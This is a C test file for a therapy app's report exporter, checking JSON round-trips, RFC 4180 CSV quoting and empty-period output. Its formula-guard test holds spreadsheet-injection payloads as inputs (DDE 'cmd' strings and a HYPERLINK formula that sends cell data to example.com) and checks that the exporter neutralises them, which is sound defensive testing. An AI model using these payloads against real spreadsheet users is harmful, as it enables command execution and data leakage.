/* SPDX-License-Identifier: GPL-3.0-or-later */
/* test-report-formats.c: the report's JSON read back field by field (and other documents
 * refused), CSV quoting and the formula guard, and an empty period in every format. */

#include "config.h"

#include <cairo.h>
#include <fontconfig/fontconfig.h>
#include <glib/gstdio.h>
#include <math.h>
#include <pango/pangocairo.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/file.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>
#include <utime.h>

#include "reframe-appointment-notes.h"
#include "reframe-assignment-repository.h"
#include "reframe-mood-repository.h"
#include "reframe-questionnaire-score.h"
#include "reframe-report-private.h"
#include "reframe-store.h"
#include "reframe-template-registry.h"
#include "reframe-test-util.h"
#include "reframe-worksheet-repository-private.h"
#include "test-report.h"

/* Every field of @a and @b agree (@b read back from @a's JSON). */
static void
assert_double_equal (double a,
                     double b)
{
  if (isnan (a))
    g_assert_true (isnan (b));
  else
    g_assert_cmpfloat (a, ==, b);
}

static void
assert_time_equal (GDateTime *a,
                   GDateTime *b)
{
  if (a == NULL)
    {
      g_assert_null (b);
      return;
    }
  g_assert_nonnull (b);
  g_assert_true (g_date_time_equal (a, b));
  g_assert_cmpint (g_date_time_get_utc_offset (a), ==, g_date_time_get_utc_offset (b));
}

static void
assert_strv_equal (const char *const *a,
                   const char *const *b)
{
  g_assert_cmpuint (
      a != NULL ? g_strv_length ((char **) a) : 0, ==, b != NULL ? g_strv_length ((char **) b) : 0);
  for (guint i = 0; a != NULL && a[i] != NULL; i++)
    g_assert_cmpstr (a[i], ==, b[i]);
}

static void
assert_entries_equal (GPtrArray *a,
                      GPtrArray *b)
{
  g_assert_cmpuint (a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    {
      ReframeMoodEntry *x = g_ptr_array_index (a, i), *y = g_ptr_array_index (b, i);

      g_assert_cmpstr (reframe_mood_entry_get_uuid (x), ==, reframe_mood_entry_get_uuid (y));
      g_assert_cmpint (reframe_mood_entry_get_mood (x), ==, reframe_mood_entry_get_mood (y));
      g_assert_cmpstr (reframe_mood_entry_get_note (x), ==, reframe_mood_entry_get_note (y));
      assert_strv_equal (reframe_mood_entry_get_feelings (x), reframe_mood_entry_get_feelings (y));
      assert_strv_equal (reframe_mood_entry_get_activities (x),
                         reframe_mood_entry_get_activities (y));
      g_assert_cmpfloat (
          reframe_mood_entry_get_sleep_hours (x), ==, reframe_mood_entry_get_sleep_hours (y));
      g_assert_cmpint (reframe_mood_entry_get_private (x), ==, reframe_mood_entry_get_private (y));
      assert_time_equal (reframe_mood_entry_get_time (x), reframe_mood_entry_get_time (y));
      assert_time_equal (reframe_mood_entry_get_created (x), reframe_mood_entry_get_created (y));
      assert_time_equal (reframe_mood_entry_get_updated (x), reframe_mood_entry_get_updated (y));
    }
}

static void
assert_worksheets_equal (GPtrArray *a,
                         GPtrArray *b)
{
  g_assert_cmpuint (a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    {
      ReframeReportWorksheet *p = g_ptr_array_index (a, i), *q = g_ptr_array_index (b, i);
      ReframeWorksheet       *x = p->worksheet, *y = q->worksheet;
      g_autoptr (JsonNode) answers_x =
          json_node_init_object (json_node_alloc (), reframe_worksheet_get_answers (x));
      g_autoptr (JsonNode) answers_y =
          json_node_init_object (json_node_alloc (), reframe_worksheet_get_answers (y));

      g_assert_cmpstr (reframe_worksheet_get_uuid (x), ==, reframe_worksheet_get_uuid (y));
      g_assert_cmpstr (
          reframe_worksheet_get_template_id (x), ==, reframe_worksheet_get_template_id (y));
      g_assert_cmpuint (reframe_worksheet_get_template_version (x),
                        ==,
                        reframe_worksheet_get_template_version (y));
      g_assert_cmpint (reframe_worksheet_get_status (x), ==, reframe_worksheet_get_status (y));
      g_assert_cmpint (reframe_worksheet_get_score (x), ==, reframe_worksheet_get_score (y));
      g_assert_cmpstr (reframe_worksheet_get_band (x), ==, reframe_worksheet_get_band (y));
      g_assert_cmpstr (
          reframe_worksheet_get_assignment_uuid (x), ==, reframe_worksheet_get_assignment_uuid (y));
      g_assert_cmpint (reframe_worksheet_get_private (x), ==, reframe_worksheet_get_private (y));
      assert_time_equal (reframe_worksheet_get_created (x), reframe_worksheet_get_created (y));
      assert_time_equal (reframe_worksheet_get_updated (x), reframe_worksheet_get_updated (y));
      assert_time_equal (reframe_worksheet_get_completed_at (x),
                         reframe_worksheet_get_completed_at (y));
      g_assert_true (json_node_equal (answers_x, answers_y));
      g_assert_nonnull (q->template);
      g_assert_cmpstr (
          reframe_template_get_id (p->template), ==, reframe_template_get_id (q->template));
      g_assert_cmpuint (reframe_template_get_version (p->template),
                        ==,
                        reframe_template_get_version (q->template));
      g_assert_cmpstr (
          reframe_template_get_title (p->template), ==, reframe_template_get_title (q->template));
      g_assert_cmpint (reframe_template_get_max_score (p->template),
                       ==,
                       reframe_template_get_max_score (q->template));
    }
}

static void
assert_scores_equal (GPtrArray *a,
                     GPtrArray *b)
{
  g_assert_cmpuint (a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    {
      ReframeReportScore *x = g_ptr_array_index (a, i), *y = g_ptr_array_index (b, i);

      g_assert_cmpstr (x->template_id, ==, y->template_id);
      g_assert_cmpstr (x->title, ==, y->title);
      g_assert_cmpstr (x->worksheet_uuid, ==, y->worksheet_uuid);
      assert_time_equal (x->when, y->when);
      g_assert_cmpint (x->score, ==, y->score);
      g_assert_cmpint (x->max_score, ==, y->max_score);
      g_assert_cmpstr (x->band, ==, y->band);
      g_assert_cmpint (x->has_previous, ==, y->has_previous);
      g_assert_cmpint (x->previous_score, ==, y->previous_score);
      g_assert_cmpint (x->change, ==, y->change);
      g_assert_cmpint (x->safety_flag, ==, y->safety_flag);
      g_assert_cmpstr (x->safety_field_id, ==, y->safety_field_id);
      g_assert_cmpuint (x->n_results, ==, y->n_results);
    }
}

static void
assert_date_equal (const GDate *a,
                   const GDate *b)
{
  g_assert_cmpint (a != NULL && g_date_valid (a), ==, b != NULL && g_date_valid (b));
  if (a != NULL && g_date_valid (a))
    g_assert_cmpint (g_date_compare (a, b), ==, 0);
}

static void
assert_homework_equal (GPtrArray *a,
                       GPtrArray *b)
{
  g_assert_cmpuint (a->len, ==, b->len);
  for (guint i = 0; i < a->len; i++)
    {
      ReframeReportHomework *p = g_ptr_array_index (a, i), *q = g_ptr_array_index (b, i);
      ReframeAssignment     *x = p->assignment, *y = q->assignment;

      g_assert_cmpstr (reframe_assignment_get_uuid (x), ==, reframe_assignment_get_uuid (y));
      g_assert_cmpstr (reframe_assignment_get_title (x), ==, reframe_assignment_get_title (y));
      g_assert_cmpstr (
          reframe_assignment_get_template_id (x), ==, reframe_assignment_get_template_id (y));
      g_assert_cmpint (
          reframe_assignment_get_frequency (x), ==, reframe_assignment_get_frequency (y));
      g_assert_cmpuint (
          reframe_assignment_get_times_per_week (x), ==, reframe_assignment_get_times_per_week (y));
      assert_date_equal (reframe_assignment_get_start_date (x),
                         reframe_assignment_get_start_date (y));
      assert_date_equal (reframe_assignment_get_end_date (x), reframe_assignment_get_end_date (y));
      assert_date_equal (reframe_assignment_get_due_date (x), reframe_assignment_get_due_date (y));
      g_assert_cmpstr (
          reframe_assignment_get_rationale (x), ==, reframe_assignment_get_rationale (y));
      g_assert_cmpstr (
          reframe_assignment_get_therapist_note (x), ==, reframe_assignment_get_therapist_note (y));
      g_assert_cmpint (
          reframe_assignment_get_reminder (x), ==, reframe_assignment_get_reminder (y));
      g_assert_cmpint (
          reframe_assignment_get_archived (x), ==, reframe_assignment_get_archived (y));
      assert_time_equal (reframe_assignment_get_created (x), reframe_assignment_get_created (y));
      assert_time_equal (reframe_assignment_get_updated (x), reframe_assignment_get_updated (y));
      g_assert_cmpuint (p->done, ==, q->done);
      g_assert_cmpuint (p->expected, ==, q->expected);
    }
}

void
report_test_assert_reports_equal (ReframeReport *a,
                                  ReframeReport *b)
{
  double     a1, a2, b1, b2, ap, aa, bp, ba;
  guint      an, bn, ad, ae, bd, be;
  GPtrArray *candidates = reframe_report_get_candidates (b);

  assert_date_equal (reframe_report_get_from (a), reframe_report_get_from (b));
  assert_date_equal (reframe_report_get_to (a), reframe_report_get_to (b));
  assert_time_equal (reframe_report_get_made (a), reframe_report_get_made (b));
  g_assert_cmpstr (reframe_report_get_name (a), ==, reframe_report_get_name (b));
  g_assert_cmpint (reframe_report_get_kinds (a), ==, reframe_report_get_kinds (b));
  g_assert_cmpint (
      reframe_report_get_include_private (a), ==, reframe_report_get_include_private (b));
  g_assert_cmpint (reframe_report_is_empty (a), ==, reframe_report_is_empty (b));
  g_assert_cmpuint (
      reframe_report_get_days_in_period (a), ==, reframe_report_get_days_in_period (b));
  g_assert_cmpuint (reframe_report_get_days_logged (a), ==, reframe_report_get_days_logged (b));
  g_assert_cmpuint (
      reframe_report_get_n_entries_logged (a), ==, reframe_report_get_n_entries_logged (b));
  assert_double_equal (reframe_report_get_mean_mood (a), reframe_report_get_mean_mood (b));
  assert_double_equal (reframe_report_get_mood_trend (a, &a1, &a2),
                       reframe_report_get_mood_trend (b, &b1, &b2));
  assert_double_equal (a1, b1);
  assert_double_equal (a2, b2);
  assert_double_equal (reframe_report_get_emotion_drop (a, &an),
                       reframe_report_get_emotion_drop (b, &bn));
  g_assert_cmpuint (an, ==, bn);
  g_assert_cmpuint (reframe_report_get_activity_moods (a, &ap, &aa),
                    ==,
                    reframe_report_get_activity_moods (b, &bp, &ba));
  assert_double_equal (ap, bp);
  assert_double_equal (aa, ba);
  reframe_report_get_homework_totals (a, &ad, &ae);
  reframe_report_get_homework_totals (b, &bd, &be);
  g_assert_cmpuint (ad, ==, bd);
  g_assert_cmpuint (ae, ==, be);
  assert_entries_equal (reframe_report_get_entries (a), reframe_report_get_entries (b));
  assert_worksheets_equal (reframe_report_get_worksheets (a), reframe_report_get_worksheets (b));
  assert_worksheets_equal (reframe_report_get_questionnaires (a),
                           reframe_report_get_questionnaires (b));
  assert_scores_equal (reframe_report_get_scores (a), reframe_report_get_scores (b));
  assert_homework_equal (reframe_report_get_homework (a), reframe_report_get_homework (b));

  /* The file lists only what it shares, all of it ticked. */
  g_assert_cmpuint (candidates->len,
                    ==,
                    reframe_report_get_entries (a)->len + reframe_report_get_worksheets (a)->len +
                        reframe_report_get_questionnaires (a)->len);
  for (guint i = 0; i < candidates->len; i++)
    {
      ReframeReportItem *item = g_ptr_array_index (candidates, i);
      ReframeReportItem *original = report_test_find_candidate (a, item->uuid);

      g_assert_nonnull (original);
      g_assert_true (original->included && item->included);
      g_assert_cmpint (original->kind, ==, item->kind);
      g_assert_cmpstr (original->title, ==, item->title);
      assert_time_equal (original->when, item->when);
    }
}

/* Every object in the document's arrays of items has a valid UUID. */
static void
assert_uuids (JsonObject *root)
{
  const char *const arrays[] = { "entries", "worksheets", "questionnaires", "homework" };

  for (guint i = 0; i < G_N_ELEMENTS (arrays); i++)
    {
      JsonArray *array = json_object_get_array_member (root, arrays[i]);

      for (guint j = 0; j < json_array_get_length (array); j++)
        g_assert_true (g_uuid_string_is_valid (
            json_object_get_string_member (json_array_get_object_element (array, j), "uuid")));
    }
}

void
report_test_assert_json_round_trip (ReframeReport *report)
{
  g_autoptr (GBytes) json = reframe_report_to_json (report);
  g_autoptr (GBytes) again = NULL;
  g_autoptr (ReframeReport) read = NULL;
  g_autoptr (JsonParser) parser = json_parser_new ();
  g_autoptr (GError) error = NULL;
  JsonObject *root;

  g_assert_true (json_parser_load_from_data (
      parser, g_bytes_get_data (json, NULL), g_bytes_get_size (json), &error));
  g_assert_no_error (error);
  root = json_node_get_object (json_parser_get_root (parser));
  g_assert_cmpstr (json_object_get_string_member (root, "schema"), ==, "reframe-report");
  g_assert_cmpint (json_object_get_int_member (root, "version"), ==, 1);
  assert_uuids (root);

  read = reframe_report_from_json (json, &error);
  g_assert_no_error (error);
  g_assert_nonnull (read);
  g_assert_null (reframe_report_get_insights (read));
  report_test_assert_reports_equal (report, read);
  /* And written again, the same document. */
  again = reframe_report_to_json (read);
  g_assert_true (g_bytes_equal (json, again));
}

void
test_json (Fixture      *f,
           gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = report_test_options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GBytes) json = NULL;
  g_autoptr (JsonNode) root = NULL;
  g_autoptr (GError) error = NULL;
  JsonArray  *questionnaires, *items;
  JsonObject *item_9;

  report_test_populate (f);
  reframe_report_options_set_name (options, "Alex “A” Doe");
  reframe_report_options_set_include_private (options, TRUE);
  report = report_test_build (f, options);
  report_test_assert_json_round_trip (report);

  /* Questionnaires item by item: the question, the answer's label and its points. */
  json = reframe_report_to_json (report);
  root = json_from_string (g_bytes_get_data (json, NULL), &error);
  g_assert_no_error (error);
  questionnaires = json_object_get_array_member (json_node_get_object (root), "questionnaires");
  g_assert_cmpuint (json_array_get_length (questionnaires), ==, 1);
  items = json_object_get_array_member (json_array_get_object_element (questionnaires, 0), "items");
  g_assert_cmpuint (json_array_get_length (items), ==, 10);
  item_9 = json_array_get_object_element (items, 8);
  g_assert_cmpstr (json_object_get_string_member (item_9, "field_id"), ==, "item_9");
  g_assert_cmpstr (json_object_get_string_member (item_9, "answer_label"), ==, "Several days");
  g_assert_cmpint (json_object_get_int_member (item_9, "points"), ==, 1);
  g_assert_true (json_object_get_null_member (json_array_get_object_element (items, 9), "points"));

  /* Only some kinds, then another version or another document. */
  {
    g_autoptr (ReframeReportOptions) some = report_test_options_for ("2026-03-01", "2026-03-14");
    g_autoptr (ReframeReport) partial = NULL;
    g_autoptr (GBytes) newer =
        g_bytes_new_static ("{\"schema\": \"reframe-report\", \"version\": 2}", 42);
    g_autoptr (GBytes) other =
        g_bytes_new_static ("{\"schema\": \"something\", \"version\": 1}", 38);
    g_autoptr (GBytes) broken =
        g_bytes_new_static ("{\"schema\": \"reframe-report\", \"version\": 1, \"made\": 3}", 53);
    g_autoptr (GBytes) garbage = g_bytes_new_static ("not json", 8);
    GBytes *bad[] = { newer, other, broken, garbage };

    reframe_report_options_set_kinds (some, REFRAME_REPORT_HOMEWORK);
    partial = report_test_build (f, some);
    /* Entries were logged, just not chosen: not an empty period. */
    g_assert_false (reframe_report_is_empty (partial));
    report_test_assert_json_round_trip (partial);
    g_clear_pointer (&partial, reframe_report_unref);
    reframe_report_options_set_kinds (some,
                                      REFRAME_REPORT_QUESTIONNAIRES | REFRAME_REPORT_HOMEWORK);
    partial = report_test_build (f, some);
    g_assert_cmpuint (reframe_report_get_entries (partial)->len, ==, 0);
    g_assert_cmpuint (reframe_report_get_worksheets (partial)->len, ==, 0);
    g_assert_true (isnan (reframe_report_get_mean_mood (partial)));
    report_test_assert_json_round_trip (partial);
    for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
      {
        g_autoptr (ReframeReport) none = reframe_report_from_json (bad[i], &error);

        g_assert_null (none);
        g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_INVALID);
        if (i == 0)
          g_assert_nonnull (strstr (error->message, "newer"));
        g_clear_error (&error);
      }
  }
}

/* A small RFC 4180 reader: records of fields, quoted or not; fails on anything else. */
GPtrArray *
report_test_parse_csv (const char *text)
{
  GPtrArray  *records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray  *record = g_ptr_array_new_with_free_func (g_free);
  GString    *field = g_string_new (NULL);
  const char *p = text;

  while (*p != '\0')
    {
      if (*p == '"')
        {
          for (p++;; p++)
            {
              g_assert_true (*p != '\0'); /* an unterminated quote */
              if (*p == '"' && p[1] == '"')
                g_string_append_c (field, *p++);
              else if (*p == '"')
                break;
              else
                g_string_append_c (field, *p);
            }
          p++;
          g_assert_true (*p == ',' || *p == '\r' || *p == '\0');
        }
      else
        for (; *p != ',' && *p != '\r' && *p != '\0'; p++)
          {
            g_assert_true (*p != '"' && *p != '\n'); /* must have been quoted */
            g_string_append_c (field, *p);
          }
      g_ptr_array_add (record, g_strdup (field->str));
      g_string_truncate (field, 0);
      if (*p == ',')
        p++;
      else if (*p == '\r' || *p == '\0')
        {
          if (*p == '\r')
            {
              g_assert_cmpint (p[1], ==, '\n');
              p += 2;
            }
          g_ptr_array_add (records, record);
          record = g_ptr_array_new_with_free_func (g_free);
        }
    }
  g_ptr_array_unref (record);
  g_string_free (field, TRUE);
  return records;
}

void
test_csv (Fixture      *f,
          gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = report_test_options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GPtrArray) records = NULL;
  g_autofree char *text = NULL;
  gboolean         found = FALSE;
  GPtrArray       *header;

  report_test_populate (f);
  report = report_test_build (f, options);
  csv = reframe_report_to_csv (report);
  text = report_test_bytes_to_string (csv);
  g_assert_true (g_str_has_suffix (text, "\r\n"));
  /* The quotes doubled, inside a quoted field. */
  g_assert_nonnull (strstr (text, "\"Tea, then \"\"rest\"\"\r\nline two,\nline 3 🙂"));
  records = report_test_parse_csv (text);
  g_assert_cmpuint (records->len, ==, 1 + 15);
  header = g_ptr_array_index (records, 0);
  g_assert_cmpuint (header->len, ==, 10);
  g_assert_cmpstr (g_ptr_array_index (header, 0), ==, "uuid");
  g_assert_cmpstr (g_ptr_array_index (header, 8), ==, "note");
  for (guint i = 1; i < records->len; i++)
    {
      GPtrArray *record = g_ptr_array_index (records, i);

      g_assert_cmpuint (record->len, ==, 10);
      g_assert_true (g_uuid_string_is_valid (g_ptr_array_index (record, 0)));
      if (g_strcmp0 (g_ptr_array_index (record, 0), f->special_entry) != 0)
        continue;
      found = TRUE;
      g_assert_cmpstr (g_ptr_array_index (record, 8), ==, report_test_special_note);
      g_assert_cmpstr (g_ptr_array_index (record, 5), ==, "calm; tired, a bit");
      g_assert_cmpstr (g_ptr_array_index (record, 1), ==, "2026-03-05");
      g_assert_cmpstr (g_ptr_array_index (record, 2), ==, "2026-03-05T21:30:00+02:00");
      g_assert_cmpstr (g_ptr_array_index (record, 3), ==, "2");
      g_assert_cmpstr (g_ptr_array_index (record, 4), ==, "bad");
      g_assert_cmpstr (g_ptr_array_index (record, 7), ==, "7.25");
      g_assert_cmpstr (g_ptr_array_index (record, 9), ==, "false");
    }
  g_assert_true (found);
}

/* Cells a spreadsheet would run as a formula get a leading apostrophe (OWASP's advice),
 * quoted, so the text stays readable and nothing is run when the file is opened. */
void
test_csv_formula_guard (Fixture      *f,
                        gconstpointer data)
{
  const char *const notes[] = {
    "=HYPERLINK(\"http://example.com/?\"&A1, \"Click\")",
    "+1 for today",
    "-2 degrees outside",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented",
    "\rcarriage",
  };
  const char *const feelings[] = { "=cmd|' /C calc'!A0", "calm", NULL };
  g_autoptr (ReframeReportOptions) options = report_test_options_for ("2026-03-01", "2026-03-14");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GPtrArray) records = NULL;
  g_autofree char *text = NULL;
  guint            guarded = 0;

  for (guint i = 0; i < G_N_ELEMENTS (notes); i++)
    {
      g_autofree char *time = g_strdup_printf ("2026-03-%02uT12:00:00Z", i + 1);

      g_free (report_test_add_entry (
          f, time, REFRAME_MOOD_OKAY, notes[i], FALSE, i == 0 ? feelings : NULL));
    }
  g_free (report_test_add_entry (f,
                                 "2026-03-09T12:00:00Z",
                                 REFRAME_MOOD_OKAY,
                                 "A plain note - with a dash inside",
                                 FALSE,
                                 NULL));
  report = report_test_build (f, options);
  csv = reframe_report_to_csv (report);
  text = report_test_bytes_to_string (csv);
  records = report_test_parse_csv (text);
  g_assert_cmpuint (records->len, ==, 1 + G_N_ELEMENTS (notes) + 1);
  for (guint i = 1; i < records->len; i++)
    {
      GPtrArray  *record = g_ptr_array_index (records, i);
      const char *note = g_ptr_array_index (record, 8);

      /* No cell starts with what a spreadsheet reads as a formula. */
      for (guint j = 0; j < record->len; j++)
        {
          const char *cell = g_ptr_array_index (record, j);

          g_assert_null (strchr ("=+-@\t\r", cell[0] != '\0' ? cell[0] : 'x'));
        }
      if (i - 1 < G_N_ELEMENTS (notes))
        {
          /* The text is all there, after the apostrophe. */
          g_assert_cmpint (note[0], ==, '\'');
          g_assert_cmpstr (note + 1, ==, notes[i - 1]);
          guarded++;
        }
      else
        g_assert_cmpstr (note, ==, "A plain note - with a dash inside");
    }
  g_assert_cmpuint (guarded, ==, G_N_ELEMENTS (notes));
  /* Feelings are the person's words too; guarded fields are quoted. */
  g_assert_nonnull (strstr (text, ",\"'=cmd|' /C calc'!A0; calm\","));
  g_assert_nonnull (strstr (text, ",\"'+1 for today\","));
}

void
test_empty (Fixture      *f,
            gconstpointer data)
{
  g_autoptr (ReframeReportOptions) options = report_test_options_for ("2025-06-01", "2025-06-30");
  g_autoptr (ReframeReport) report = NULL;
  g_autoptr (GBytes) markdown = NULL;
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GFile) file = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *text = NULL, *path = NULL;

  report_test_populate (f);
  report = report_test_build (f, options);
  g_assert_true (reframe_report_is_empty (report));
  g_assert_cmpuint (reframe_report_get_days_in_period (report), ==, 30);
  g_assert_cmpuint (reframe_report_get_days_logged (report), ==, 0);
  g_assert_true (isnan (reframe_report_get_mean_mood (report)));
  g_assert_true (isnan (reframe_report_get_mood_trend (report, NULL, NULL)));
  g_assert_cmpuint (reframe_report_get_candidates (report)->len, ==, 0);
  markdown = reframe_report_to_markdown (report);
  text = report_test_bytes_to_string (markdown);
  g_assert_nonnull (strstr (text, "Nothing was logged in this period."));
  g_assert_nonnull (strstr (text, "0 of 30 days"));
  g_assert_nonnull (strstr (text, "No mood entries in this period."));
  csv = reframe_report_to_csv (report);
  g_assert_cmpuint (
      g_bytes_get_size (csv),
      ==,
      strlen ("uuid,date,time,mood,mood_label,feelings,activities,sleep_hours,note,private\r\n"));
  report_test_assert_json_round_trip (report);

  /* Every format makes a file, the PDF too. */
  for (ReframeReportFormat format = REFRAME_REPORT_FORMAT_PDF; format <= REFRAME_REPORT_FORMAT_CSV;
       format++)
    {
      g_autofree char *contents = NULL;
      gsize            length = 0;

      g_clear_object (&file);
      g_free (path);
      path =
          g_strdup_printf ("%s/empty.%s", f->out_dir, reframe_report_format_get_extension (format));
      file = g_file_new_for_path (path);
      g_assert_true (reframe_report_write_file (report, format, file, NULL, NULL, NULL, &error));
      g_assert_no_error (error);
      g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
      g_assert_cmpuint (length, >, 0);
      if (format == REFRAME_REPORT_FORMAT_PDF)
        g_assert_true (g_str_has_prefix (contents, "%PDF-"));
    }
}
